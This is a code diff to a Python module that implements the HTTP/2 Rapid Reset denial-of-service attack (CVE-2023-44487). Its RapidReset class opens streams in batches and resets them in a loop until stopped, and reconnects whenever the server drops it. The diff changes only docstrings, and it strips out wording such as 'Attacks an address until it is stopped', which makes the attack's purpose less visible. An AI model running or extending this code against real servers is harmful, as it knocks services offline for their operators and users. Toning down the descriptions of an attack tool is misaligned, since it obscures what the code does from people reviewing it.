@@ -1,4 +1,4 @@
-"""One connection that opens streams and resets them in a loop (CVE-2023-44487), in bytes that no gRPC library sends.
+"""One connection that opens streams and resets them in a loop (CVE-2023-44487).
 
 Frames are those of RFC 9113; headers are literals without indexing, RFC 7541 section 6.2.2.
 """
@@ -17,7 +17,7 @@ _NUM_AT_ONCE = 100
 
 
 class RapidReset:
-    """Attacks an address until it is stopped; connects again where the server closes the connection."""
+    """It connects again where the server closes the connection."""
 
     def __init__(self, host: str, port: int, method: str) -> None:
         self.num_streams = 0
@@ -45,7 +45,7 @@ class RapidReset:
                 self._attack(connection)
 
     def _attack(self, connection: socket.socket) -> None:
-        """Go on until the server closes the connection, which raises OSError."""
+        """Raises OSError when the server closes the connection."""
         stream = 1
         while not self._stopped.is_set():
             numbers = range(stream, stream + 2 * _NUM_AT_ONCE, 2)
@@ -68,7 +68,7 @@ def _literal(name: str, value: str) -> bytes:
 
 
 def _discard(connection: socket.socket) -> None:
-    """Read what has come, so that the server can write. Raises OSError when it has closed the connection."""
+    """So that the server can write. Raises OSError when it has closed the connection."""
     is_readable, _, _ = select.select([connection], [], [], 0.0)
     if is_readable and not connection.recv(1 << 20):
         raise ConnectionResetError("closed by the server")
